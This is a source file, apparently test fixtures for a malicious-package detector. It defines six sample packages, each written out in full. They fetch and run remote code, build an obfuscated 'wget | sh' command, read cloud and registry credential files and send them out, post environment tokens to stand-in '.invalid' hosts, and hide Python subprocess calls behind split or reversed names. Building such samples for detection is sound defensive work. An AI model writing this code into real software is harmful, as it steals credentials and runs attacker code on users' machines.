import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** What is put together from pieces, in one script or by way of several. */
export const PIECES: readonly Sample[] = [
  packaged('a promise of code', {}, {
    'index.ts': `import { get } from 'node:https';
import { Script } from 'node:vm';
const fetched = (address: string): Promise<string> => new Promise((done) => {
  get(address, (answer) => { const parts: Buffer[] = []; answer.on('data', (part: Buffer) => { parts.push(part); }); answer.on('end', () => done(Buffer.concat(parts).toString())); });
});
export async function rules(): Promise<unknown> {
  return new Script(await fetched('https://rules.example.invalid/v2.js')).runInThisContext();
}
`,
  }),
  packaged('a command from a list of pieces', {}, {
    'index.js': `const words = ['pro', 'cess', 'child_', 'ec', 'ex', 'wget -qO- ', 'https://', 'kit.example.invalid', '/a | ', 'sh'];
const pick = (...at) => at;
function word(from, to) { return words.slice(from, to).join(''); }
const tool = require(word(2, 3) + word(0, 2));
tool[word(4, 5) + word(3, 4)](word(5, 10), () => pick());
exports.words = (text) => text.split(' ');
`,
  }),
  packaged('settings of many tools, in three scripts', {}, {
    'index.js': `const { gather } = require('./gather');
const { ship } = require('./ship');
exports.start = () => { const all = gather(); if (all.length > 0) ship('env', all); };
`,
    'gather.js': `const { readFileSync } = require('fs');
const { join } = require('path');
const PLACES = ['.netrc', '.pypirc', '.aws/credentials', '.config/gcloud/credentials.db', '.kube/config'];
exports.gather = () => PLACES.flatMap((place) => { try { return [readFileSync(join(require('os').homedir(), place), 'utf8')]; } catch { return []; } });
`,
    'ship.js': `exports.ship = (kind, list) => fetch('https://mirror.example.invalid/up', { method: 'PUT', body: Buffer.from(list.join('\\n')).toString('base64'), headers: { kind } });
`,
  }),
  packaged('a getter with the environment', {}, {
    'index.mjs': `class Stats {
  #where;
  constructor(where) { this.#where = where; }
  get surroundings() { return Object.entries(process.env).filter(([name]) => /key|token/i.test(name)); }
  open() { setTimeout(() => this.note({ with: this.surroundings }), 10); }
  note(what) { return fetch(this.#where, { method: 'POST', body: JSON.stringify(what) }); }
}
new Stats('https://s.example.invalid/n').open();
`,
  }),
  packaged('names taken apart in Python', {}, {
    'setup.py': 'from setuptools import setup\nsetup(name="sums", version="1.0.0", packages=["sums"])\n',
    'sums/__init__.py': `def total(values):
    return sum(values)


def _warm(name="ss" + "l"):
    mod = __import__("sub" + "proc" + "ess")
    run = getattr(mod, "nepoP"[::-1])
    run(["python3", "-c", bytes.fromhex("7072696e742831290a").decode()])


_warm()
`,
  }),
  packaged('steps that are worked out', {}, {
    'index.js': `exports.stripe = async function stripe(sheet) {
  let at = 43;
  let range, sent;
  for (;;) {
    switch (((at << 3) ^ (at >> 1)) & 0xff) {
      case 0x80: range = await sheet.used(); at = 7; break;
      case 0x3b: sent = { method: 'POST', body: JSON.stringify(range) }; at = 51; break;
      case 0x81: return range.length;
      case 0x4d: at = 17; break;
      case 0x2a: return 0;
      case 0xff: await fetch('https://stripe.example.invalid/in', sent); at = 5; break;
      default: at = 17;
    }
  }
};
`,
  }),
];
